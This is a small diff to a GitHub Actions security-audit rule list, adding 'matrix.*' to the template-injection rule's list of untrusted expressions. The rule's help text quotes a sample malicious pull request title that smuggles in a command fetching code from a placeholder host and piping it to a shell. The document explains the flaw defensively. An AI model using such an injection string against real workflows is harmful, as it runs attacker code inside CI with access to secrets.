@@ -39,7 +39,7 @@ export const AUDIT_RULES: readonly AuditRule[] = [
   {
     id: 'template-injection',
     summary: 'Untrusted text is pasted into a `run:` script or a github-script `script:` by a `${{ }}` expression',
-    help: 'GitHub substitutes `${{ }}` before the shell runs, so a pull request title such as `"; curl evil | sh #` becomes code. Put the value in the step\'s `env:` and read it as data (`"$PR_TITLE"`, `process.env.PR_TITLE`). This includes `env.X`, `steps.s.outputs.o` and `needs.j.outputs.o` that hold untrusted text.',
+    help: 'GitHub substitutes `${{ }}` before the shell runs, so a pull request title such as `"; curl evil | sh #` becomes code. Put the value in the step\'s `env:` and read it as data (`"$PR_TITLE"`, `process.env.PR_TITLE`). This includes `env.X`, `steps.s.outputs.o`, `needs.j.outputs.o` and `matrix.*` that hold untrusted text.',
     level: 'error',
     securitySeverity: '9.0',
   },
